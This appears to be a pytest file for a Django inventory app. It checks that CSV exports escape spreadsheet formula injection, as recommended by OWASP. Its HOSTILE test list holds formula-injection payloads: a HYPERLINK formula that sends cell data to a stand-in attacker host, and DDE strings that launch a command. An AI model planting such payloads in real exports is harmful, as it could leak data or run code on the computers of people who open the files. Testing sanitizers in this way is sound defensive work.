"""CSV exports cannot carry spreadsheet formulas: text cells that a spreadsheet would run are
prefixed with ``'`` (OWASP), numbers stay numbers, in every CSV writer."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from hypothesis import example, given
from hypothesis import strategies as st

from inventory.csv_cells import FORMULA_TRIGGERS, csv_cell, csv_column, neutralize, restore

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_a_formula_is_prefixed(text):
    assert neutralize(text) == "'" + text
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", [*HOSTILE, "'=1", "''+x", "'plain", "plain", "", "'", "=", "'-"])
def test_restore_gives_back_what_was_neutralized(text):
    assert restore(neutralize(text)) == text
    assert neutralize(text) == text or neutralize(text).lstrip("'").startswith(FORMULA_TRIGGERS)


def test_numbers_and_plain_text_are_kept():
    assert csv_cell(-5) == -5
    assert csv_cell(-1.5) == -1.5
    assert csv_cell("-5") == "'-5"  # text that looks like a number is still text
    assert csv_cell("llama3 = good") == "llama3 = good"
    assert csv_cell(None) == ""
    assert csv_cell(True) == "true"
    assert csv_cell(["=a"]) == '["=a"]'


def body(response) -> str:
    return b"".join(response.streaming_content).decode()


def test_web_exports_neutralize_every_hostile_cell(admin_client: Client, sdk, engine):
    for index, text in enumerate(HOSTILE):
        sdk.models.available_model_registry.create(
            {"name": f"catalog-{index}", "label": text, "family": text, "summary": text}
        )
        sdk.models.model_registry.create(
            {"name": f"model-{index}", "engine_id": engine["id"], "model_path": text}
        )
    cells = 0
    for url in ("/engines/export.csv", "/catalog/export.csv", "/models/export.csv"):
        response = admin_client.get(url)
        assert response.status_code == 200
        for row in csv.reader(io.StringIO(body(response), newline="")):
            for cell in row:
                assert not cell.startswith(FORMULA_TRIGGERS), (url, cell)
                cells += cell.startswith("'") and cell[1:].startswith(FORMULA_TRIGGERS)
    assert cells == 3 * len(HOSTILE) + len(HOSTILE)


def test_the_change_history_export_neutralizes_hostile_cells(admin_client: Client, sdk):
    for index, text in enumerate(HOSTILE):
        sdk.models.available_model_registry.create({"name": f"catalog-{index}", "label": text})
    response = admin_client.get("/changes/export.csv")
    assert response.status_code == 200
    text = body(response)
    assert "HYPERLINK" in text
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), cell


_CELL_VALUES = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False),
    st.text(),
    st.sampled_from(HOSTILE),
    st.lists(st.text(max_size=5), max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=3),
)


@given(st.one_of(st.lists(_CELL_VALUES), st.lists(st.text()), st.lists(st.integers())))
@example(["'=1+1", "''@x", "'plain", "-2"])  # text already quoted as a formula's escape
def test_a_column_encodes_as_its_cells_one_by_one(values):
    """The exports encode a column at once; every cell comes out as ``csv_cell`` makes it."""
    assert csv_column(values) == [csv_cell(value) for value in values]
